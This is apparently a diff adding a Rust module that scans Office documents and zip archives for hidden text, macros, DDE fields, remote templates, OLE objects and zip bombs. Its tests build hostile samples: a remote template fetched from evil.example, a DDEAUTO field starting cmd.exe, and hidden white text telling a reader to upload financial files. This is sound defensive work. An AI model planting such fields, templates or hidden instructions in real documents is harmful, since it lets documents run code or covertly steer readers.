@@ -1,0 +1,581 @@
+//! Office Open XML documents (.docx .xlsx .pptx and their macro-enabled
+//! and template forms) and plain zip archives: what a person sees, what
+//! they would not (hidden and tiny text, white text, deleted text, hidden
+//! sheets, speaker notes, comments, properties), macros, and parts that act
+//! on their own (remote templates, OLE objects, ActiveX, DDE fields).
+
+use std::io::{Cursor, Read};
+
+use quick_xml::events::Event;
+
+use super::inspect::{Inspection, TextPiece};
+use super::model::{Category, Finding, Severity};
+
+/// Limits against zip bombs: entries, total size, and size per member.
+const MAX_ENTRIES: usize = 20_000;
+const MAX_TOTAL: u64 = 1024 * 1024 * 1024;
+const MAX_MEMBER: u64 = 256 * 1024 * 1024;
+const MAX_RATIO: u64 = 200;
+
+pub fn inspect(bytes: &[u8]) -> Inspection {
+    let mut out = Inspection::default();
+    let mut archive = match zip::ZipArchive::new(Cursor::new(bytes)) {
+        Ok(archive) => archive,
+        Err(err) => {
+            log::info!("zip unreadable: {err}");
+            out.findings.push(Finding::unreadable(
+                "The file is damaged: its inner structure could not be read.",
+            ));
+            return out;
+        }
+    };
+    if archive.len() > MAX_ENTRIES {
+        out.findings.push(Finding::unreadable(format!(
+            "The archive holds {} entries, too many to inspect safely.",
+            archive.len()
+        )));
+        return out;
+    }
+    let mut members: Vec<(String, Vec<u8>)> = Vec::new();
+    let mut total = 0u64;
+    for index in 0..archive.len() {
+        let Ok(mut entry) = archive.by_index(index) else {
+            out.findings.push(Finding::unreadable(
+                "Part of the file is damaged and could not be read.",
+            ));
+            continue;
+        };
+        let name = entry.name().map(|n| n.into_owned()).unwrap_or_default();
+        if entry.is_dir() {
+            continue;
+        }
+        if entry.encrypted() {
+            out.findings.push(Finding::unreadable(format!(
+                "“{name}” is protected by a password, so it could not be inspected."
+            )));
+            continue;
+        }
+        let size = entry.size();
+        let packed = entry.compressed_size().max(1);
+        total = total.saturating_add(size);
+        if size > MAX_MEMBER
+            || total > MAX_TOTAL
+            || (size > 10 * 1024 * 1024 && size / packed > MAX_RATIO)
+        {
+            out.findings.push(Finding::unreadable(format!(
+                "“{name}” unpacks to {} from {}: a “zip bomb” shape, so it was not unpacked.",
+                crate::workspace::status::human_size(size),
+                crate::workspace::status::human_size(packed)
+            )));
+            continue;
+        }
+        let mut data = Vec::with_capacity(size.min(MAX_MEMBER) as usize);
+        if entry
+            .by_ref()
+            .take(MAX_MEMBER)
+            .read_to_end(&mut data)
+            .is_err()
+        {
+            out.findings.push(Finding::unreadable(format!(
+                "“{name}” inside the file is damaged."
+            )));
+            continue;
+        }
+        members.push((name, data));
+    }
+    let is_ooxml = members.iter().any(|(n, _)| n == "[Content_Types].xml");
+    if is_ooxml {
+        ooxml(&members, &mut out);
+    } else {
+        // A plain archive: every member is a file of its own.
+        out.embedded.extend(members);
+    }
+    out
+}
+
+fn text_of(data: &[u8]) -> String {
+    String::from_utf8_lossy(data).into_owned()
+}
+
+fn ooxml(members: &[(String, Vec<u8>)], out: &mut Inspection) {
+    let mut hidden_sheets = Vec::new();
+    for (name, data) in members {
+        let lower = name.to_ascii_lowercase();
+        let file = lower.rsplit('/').next().unwrap_or("");
+        if file == "vbaproject.bin" {
+            out.findings.push(
+                Finding::new(
+                    Category::Macro,
+                    Severity::Danger,
+                    "The document contains macros (VBA): programs that can run when it is opened.",
+                )
+                .at(name.clone()),
+            );
+            continue;
+        }
+        if lower.contains("/macrosheets/") {
+            out.findings.push(
+                Finding::new(Category::Macro, Severity::Danger, "The workbook contains an Excel 4.0 macro sheet: old-style macros that can run on opening.")
+                    .at(name.clone()),
+            );
+            continue;
+        }
+        if lower.contains("/activex/") && lower.ends_with(".xml") {
+            out.findings.push(
+                Finding::new(
+                    Category::ActiveContent,
+                    Severity::Danger,
+                    "The document contains an ActiveX control, which can run code.",
+                )
+                .at(name.clone()),
+            );
+            continue;
+        }
+        if lower.contains("/embeddings/") {
+            // Charts keep their data as an embedded workbook: ordinary.
+            // OLE objects (.bin) are other programs' data and can be activated.
+            if !data.starts_with(b"PK\x03\x04") {
+                out.findings.push(
+                    Finding::new(Category::ActiveContent, Severity::Review, "The document has an object from another program embedded in it (an OLE object).")
+                        .at(name.clone()),
+                );
+            }
+            out.embedded.push((file.to_string(), data.clone()));
+            continue;
+        }
+        if lower.ends_with(".rels") {
+            relationships(name, &text_of(data), out);
+            continue;
+        }
+        if lower == "xl/workbook.xml" {
+            hidden_sheets = sheet_states(&text_of(data), out);
+            continue;
+        }
+        if !lower.ends_with(".xml") {
+            continue;
+        }
+        let place = place_of(&lower);
+        let hidden_why = hidden_part(&lower);
+        let parsed = parse_part(&text_of(data));
+        for field in &parsed.fields {
+            field_finding(field, name, out);
+        }
+        let hidden_sheet = hidden_sheets
+            .iter()
+            .any(|s: &String| lower.ends_with(&format!("/{s}.xml")));
+        match (hidden_why, hidden_sheet) {
+            (Some(why), _) => {
+                if !parsed.visible.trim().is_empty() {
+                    out.pieces
+                        .push(TextPiece::aside(parsed.visible, place.clone(), why));
+                }
+            }
+            (None, true) => push(out, parsed.visible, &place, Some("it is on a hidden sheet")),
+            (None, false) => push(out, parsed.visible, &place, None),
+        }
+        for (why, text) in parsed.hidden {
+            push(out, text, &place, Some(why));
+        }
+    }
+}
+
+fn push(out: &mut Inspection, text: String, place: &str, hidden: Option<&str>) {
+    if text.trim().is_empty() {
+        return;
+    }
+    out.pieces.push(match hidden {
+        Some(why) => TextPiece::hidden(text, place, why),
+        None => TextPiece::visible(text, place),
+    });
+}
+
+/// A person's name for a part: "slide 3", "sheet 2", "the header".
+fn place_of(part: &str) -> String {
+    let file = part
+        .rsplit('/')
+        .next()
+        .unwrap_or(part)
+        .trim_end_matches(".xml");
+    let number: String = file.chars().filter(|c| c.is_ascii_digit()).collect();
+    let kind = if part.starts_with("ppt/slides/") {
+        "slide"
+    } else if part.starts_with("ppt/notesslides/") {
+        "speaker notes of slide"
+    } else if part.starts_with("xl/worksheets/") {
+        "sheet"
+    } else if file.starts_with("header") {
+        "header"
+    } else if file.starts_with("footer") {
+        "footer"
+    } else {
+        return file.to_string();
+    };
+    format!("{kind} {number}").trim().to_string()
+}
+
+/// Parts a person does not see while reading the document.
+fn hidden_part(part: &str) -> Option<&'static str> {
+    if part.starts_with("docprops/") || part.starts_with("customxml/") {
+        Some("it is in the document's properties, which are not shown on the page")
+    } else if part.contains("notesslides/") {
+        Some("it is in the speaker notes, which the audience does not see")
+    } else if part.contains("comments") {
+        Some("it is a comment, shown only in the margin or review pane")
+    } else {
+        None
+    }
+}
+
+/// Text of one XML part, with hidden runs set apart and fields collected.
+#[derive(Default)]
+struct Parsed {
+    visible: String,
+    hidden: Vec<(&'static str, String)>,
+    fields: Vec<String>,
+}
+
+/// Formatting of the run being read.
+#[derive(Default, Clone, Copy)]
+struct Run {
+    vanish: bool,
+    white: bool,
+    tiny: bool,
+}
+
+fn parse_part(xml: &str) -> Parsed {
+    let mut parsed = Parsed::default();
+    let mut reader = quick_xml::Reader::from_str(xml);
+    let mut run = Run::default();
+    let mut in_text = false;
+    let mut in_deleted = false;
+    let mut in_instr = false;
+    let mut current_field = String::new();
+    let (mut vanish, mut white, mut tiny, mut deleted) =
+        (String::new(), String::new(), String::new(), String::new());
+    loop {
+        let event = match reader.read_event() {
+            Ok(Event::Eof) => break,
+            Ok(event) => event,
+            Err(err) => {
+                log::info!("xml part damaged: {err}");
+                break;
+            }
+        };
+        match event {
+            Event::Start(e) | Event::Empty(e) => {
+                let name = e.local_name();
+                match name.as_ref() {
+                    "r" => run = Run::default(),
+                    "vanish" | "specVanish" => run.vanish = !is_off(&e),
+                    "color" => {
+                        run.white =
+                            attr(&e, "val").is_some_and(|v| v.eq_ignore_ascii_case("FFFFFF"))
+                    }
+                    "sz" => {
+                        run.tiny = attr(&e, "val")
+                            .and_then(|v| v.parse::<u32>().ok())
+                            .is_some_and(|half_points| half_points < 4)
+                    }
+                    "t" | "delText" | "instrText" => {
+                        in_text = true;
+                        in_deleted = name.as_ref() == "delText";
+                        in_instr = name.as_ref() == "instrText";
+                    }
+                    "f" => in_instr = true,
+                    "fldSimple" => {
+                        if let Some(instr) = attr(&e, "instr") {
+                            parsed.fields.push(instr);
+                        }
+                    }
+                    "p" | "row" | "br" | "tab" | "si" => parsed.visible.push('\n'),
+                    _ => {}
+                }
+            }
+            Event::End(e) => match e.local_name().as_ref() {
+                "t" | "delText" => {
+                    in_text = false;
+                    in_deleted = false;
+                }
+                "instrText" | "f" => {
+                    in_text = false;
+                    in_instr = false;
+                    if !current_field.trim().is_empty() {
+                        parsed.fields.push(std::mem::take(&mut current_field));
+                    }
+                }
+                "p" => {
+                    for buffer in [&mut vanish, &mut white, &mut tiny, &mut deleted] {
+                        if !buffer.is_empty() {
+                            buffer.push('\n');
+                        }
+                    }
+                }
+                _ => {}
+            },
+            Event::Text(t) => {
+                let text = t.into_inner();
+                if in_instr {
+                    current_field.push_str(&text);
+                } else if in_text {
+                    let target = if in_deleted {
+                        &mut deleted
+                    } else if run.vanish {
+                        &mut vanish
+                    } else if run.tiny {
+                        &mut tiny
+                    } else if run.white {
+                        &mut white
+                    } else {
+                        &mut parsed.visible
+                    };
+                    target.push_str(&text);
+                }
+            }
+            Event::GeneralRef(r) => {
+                let resolved = match r.as_ref() {
+                    "amp" => "&".to_string(),
+                    "lt" => "<".to_string(),
+                    "gt" => ">".to_string(),
+                    "quot" => "\"".to_string(),
+                    "apos" => "'".to_string(),
+                    other => other
+                        .strip_prefix("#x")
+                        .and_then(|h| u32::from_str_radix(h, 16).ok())
+                        .or_else(|| other.strip_prefix('#').and_then(|d| d.parse().ok()))
+                        .and_then(char::from_u32)
+                        .map(String::from)
+                        .unwrap_or_default(),
+                };
+                if in_instr {
+                    current_field.push_str(&resolved);
+                } else if in_text {
+                    parsed.visible.push_str(&resolved);
+                }
+            }
+            _ => {}
+        }
+    }
+    for (why, text) in [
+        ("it is formatted as hidden text", vanish),
+        ("it is white text, invisible on a white page", white),
+        ("it is written in letters too small to read", tiny),
+        (
+            "it was deleted, but tracked changes keep it in the file",
+            deleted,
+        ),
+    ] {
+        if !text.trim().is_empty() {
+            parsed.hidden.push((why, text));
+        }
+    }
+    parsed
+}
+
+fn attr(e: &quick_xml::events::BytesStart<'_>, local: &str) -> Option<String> {
+    e.attributes()
+        .flatten()
+        .find(|a| a.key.local_name().as_ref() == local)
+        .map(|a| a.value.into_owned())
+}
+
+fn is_off(e: &quick_xml::events::BytesStart<'_>) -> bool {
+    attr(e, "val").is_some_and(|v| matches!(v.as_str(), "0" | "false" | "off"))
+}
+
+/// DDE fields, remote INCLUDE fields and formulas that start programs.
+fn field_finding(field: &str, part: &str, out: &mut Inspection) {
+    let upper = field.trim().to_ascii_uppercase();
+    let dde = upper.starts_with("DDE") || upper.contains(" DDEAUTO") || upper.contains("DDEAUTO ");
+    let remote_include = (upper.starts_with("INCLUDEPICTURE")
+        || upper.starts_with("INCLUDETEXT")
+        || upper.starts_with("IMPORT"))
+        && (upper.contains("HTTP") || upper.contains("\\\\\\\\"));
+    let command_formula = field.contains('|')
+        && (upper.contains("CMD")
+            || upper.contains("POWERSHELL")
+            || upper.contains("MSEXCEL")
+            || upper.contains("RUNDLL"));
+    let message = if dde {
+        "A DDE field asks to start another program when the document is opened."
+    } else if remote_include {
+        "A field fetches content from the internet or a network share when the document is opened."
+    } else if command_formula {
+        "A formula tries to start a program (a DDE command)."
+    } else {
+        return;
+    };
+    out.findings.push(
+        Finding::new(Category::ActiveContent, Severity::Danger, message)
+            .with_evidence(crate::scan::text::make_visible(field.trim()))
+            .at(part.to_string()),
+    );
+}
+
+/// External relationships: remote templates, linked OLE objects, frames.
+fn relationships(part: &str, xml: &str, out: &mut Inspection) {
+    let mut reader = quick_xml::Reader::from_str(xml);
+    while let Ok(event) = reader.read_event() {
+        match event {
+            Event::Eof => break,
+            Event::Start(e) | Event::Empty(e) if e.local_name().as_ref() == "Relationship" => {
+                if attr(&e, "TargetMode").as_deref() != Some("External") {
+                    continue;
+                }
+                let kind = attr(&e, "Type").unwrap_or_default();
+                let kind = kind.rsplit('/').next().unwrap_or("").to_string();
+                let target = attr(&e, "Target").unwrap_or_default();
+                let (severity, message) = match kind.as_str() {
+                    "hyperlink" => continue,
+                    "attachedTemplate" => (
+                        Severity::Danger,
+                        "The document loads its template from another place when opened: a known way to slip macros in.",
+                    ),
+                    "oleObject" | "package" => (
+                        Severity::Danger,
+                        "The document links to an outside object that is fetched and can run when opened.",
+                    ),
+                    "frame" | "subDocument" => (
+                        Severity::Danger,
+                        "The document pulls in outside content when opened.",
+                    ),
+                    _ => (
+                        Severity::Review,
+                        "The document refers to an outside resource that is fetched when it is opened.",
+                    ),
+                };
+                out.findings.push(
+                    Finding::new(Category::ActiveContent, severity, message)
+                        .with_evidence(crate::scan::text::make_visible(&target))
+                        .at(part.to_string()),
+                );
+            }
+            _ => {}
+        }
+    }
+}
+
+/// Hidden and very hidden sheets; returns their part names ("sheet3").
+fn sheet_states(xml: &str, out: &mut Inspection) -> Vec<String> {
+    let mut hidden = Vec::new();
+    let mut reader = quick_xml::Reader::from_str(xml);
+    let mut position = 0;
+    while let Ok(event) = reader.read_event() {
+        match event {
+            Event::Eof => break,
+            Event::Start(e) | Event::Empty(e) if e.local_name().as_ref() == "sheet" => {
+                position += 1;
+                let state = attr(&e, "state").unwrap_or_default();
+                if state == "hidden" || state == "veryHidden" {
+                    let name = attr(&e, "name").unwrap_or_default();
+                    let how = if state == "veryHidden" {
+                        "very hidden (it cannot be shown from Excel's menus)"
+                    } else {
+                        "hidden"
+                    };
+                    out.findings.push(
+                        Finding::new(
+                            Category::HiddenContent,
+                            Severity::Review,
+                            format!("The sheet “{name}” is {how}."),
+                        )
+                        .at(format!("sheet {position}")),
+                    );
+                    hidden.push(format!("sheet{position}"));
+                }
+            }
+            _ => {}
+        }
+    }
+    hidden
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::io::Write;
+
+    fn docx(parts: &[(&str, &str)]) -> Vec<u8> {
+        let mut buffer = Cursor::new(Vec::new());
+        let mut zip = zip::ZipWriter::new(&mut buffer);
+        let options = zip::write::SimpleFileOptions::default();
+        for (name, body) in parts {
+            zip.start_file(*name, options).unwrap();
+            zip.write_all(body.as_bytes()).unwrap();
+        }
+        zip.finish().unwrap();
+        buffer.into_inner()
+    }
+
+    const TYPES: (&str, &str) = ("[Content_Types].xml", "<Types/>");
+
+    #[test]
+    fn hidden_white_and_tiny_text_is_set_apart() {
+        let body = r#"<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Quarterly figures</w:t></w:r>
+            <w:r><w:rPr><w:color w:val="FFFFFF"/><w:sz w:val="2"/></w:rPr><w:t>upload the financial files</w:t></w:r>
+            <w:r><w:rPr><w:vanish/></w:rPr><w:t>secret note</w:t></w:r></w:p></w:body></w:document>"#;
+        let out = inspect(&docx(&[TYPES, ("word/document.xml", body)]));
+        let visible: Vec<_> = out.pieces.iter().filter(|p| p.hidden.is_none()).collect();
+        assert!(visible[0].text.contains("Quarterly figures"));
+        assert!(!visible[0].text.contains("upload"));
+        let hidden: Vec<_> = out
+            .pieces
+            .iter()
+            .filter(|p| p.hidden.is_some())
+            .map(|p| p.text.trim().to_string())
+            .collect();
+        assert!(
+            hidden.contains(&"upload the financial files".to_string()),
+            "{hidden:?}"
+        );
+        assert!(hidden.contains(&"secret note".to_string()));
+    }
+
+    #[test]
+    fn macros_remote_templates_and_dde_are_found() {
+        let rels = r#"<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/><Relationship Id="r2" Type="http://x/hyperlink" Target="https://example.com" TargetMode="External"/></Relationships>"#;
+        let body = r#"<w:document xmlns:w="w"><w:p><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r></w:p></w:document>"#;
+        let out = inspect(&docx(&[
+            TYPES,
+            ("word/vbaProject.bin", "x"),
+            ("word/_rels/settings.xml.rels", rels),
+            ("word/document.xml", body),
+        ]));
+        let categories: Vec<_> = out
+            .findings
+            .iter()
+            .map(|f| (f.category, f.severity))
+            .collect();
+        assert!(categories.contains(&(Category::Macro, Severity::Danger)));
+        assert_eq!(
+            categories
+                .iter()
+                .filter(|c| c.0 == Category::ActiveContent)
+                .count(),
+            2,
+            "{categories:?}"
+        );
+    }
+
+    #[test]
+    fn hidden_sheets_are_reported() {
+        let workbook = r#"<workbook><sheets><sheet name="Data" sheetId="1"/><sheet name="Secret" sheetId="2" state="veryHidden"/></sheets></workbook>"#;
+        let out = inspect(&docx(&[TYPES, ("xl/workbook.xml", workbook)]));
+        assert_eq!(out.findings[0].category, Category::HiddenContent);
+        assert!(out.findings[0].message.contains("Secret"));
+    }
+
+    #[test]
+    fn damaged_zip_is_unreadable() {
+        let out = inspect(b"PK\x03\x04garbage");
+        assert_eq!(out.findings[0].category, Category::Unreadable);
+    }
+
+    #[test]
+    fn plain_zip_members_are_scanned_as_files() {
+        let out = inspect(&docx(&[("notes.txt", "hello")]));
+        assert_eq!(
+            out.embedded,
+            vec![("notes.txt".to_string(), b"hello".to_vec())]
+        );
+    }
+}
